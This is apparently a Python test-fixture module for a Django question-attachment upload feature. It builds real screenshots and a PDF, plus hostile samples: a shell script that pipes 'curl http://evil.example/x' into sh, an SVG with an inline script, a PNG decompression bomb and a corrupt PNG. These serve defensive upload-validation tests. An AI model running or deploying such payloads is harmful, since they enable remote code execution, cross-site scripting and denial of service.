"""Files people attach to a question: real screenshots (made with Pillow), a PDF, and forged or hostile ones."""

import io
import struct
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

PDF_BYTES = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
SCRIPT_BYTES = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
SVG_BYTES = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def image_bytes(fmt: str = "PNG", size: tuple[int, int] = (39, 84)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (30, 120, 200)).save(buffer, format=fmt)
    return buffer.getvalue()


def upload(name: str, data: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


def png(name: str = "Снимок экрана.png") -> SimpleUploadedFile:
    return upload(name, image_bytes("PNG"), "image/png")


def pdf(name: str = "Ошибка.pdf") -> SimpleUploadedFile:
    return upload(name, PDF_BYTES, "application/pdf")


def screenshot_bytes(size: tuple[int, int] = (1170, 2532)) -> bytes:
    """A phone's full-screen screenshot as a PNG of some megabytes (noise does not compress, as photos don't)."""
    buffer = io.BytesIO()
    Image.effect_noise(size, 80).save(buffer, format="PNG")
    return buffer.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def grey_png(width: int, height: int, idat: bytes) -> bytes:
    """An 8-bit greyscale PNG with the given pixel stream and correct checksums (the content check reads those)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def bomb_png(width: int = 8000, height: int = 7000) -> bytes:
    """A decompression bomb under the content check's 60 MP: 56 MP of zeros packed into some 50 KB."""
    packer = zlib.compressobj(9)
    row = b"\x00" * (width + 1)
    return grey_png(width, height, b"".join(packer.compress(row) for _ in range(height)) + packer.flush())


def broken_png() -> bytes:
    """A PNG whose chunks are whole but whose pixel stream is not zlib data: it passes the content check."""
    return grey_png(300, 300, b"not zlib data at all" * 10)


def assert_private_pdf_download(response) -> None:
    """The PDF of ``pdf()``, handed out as a download nobody caches or sniffs (page and API alike)."""
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PDF_BYTES
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"
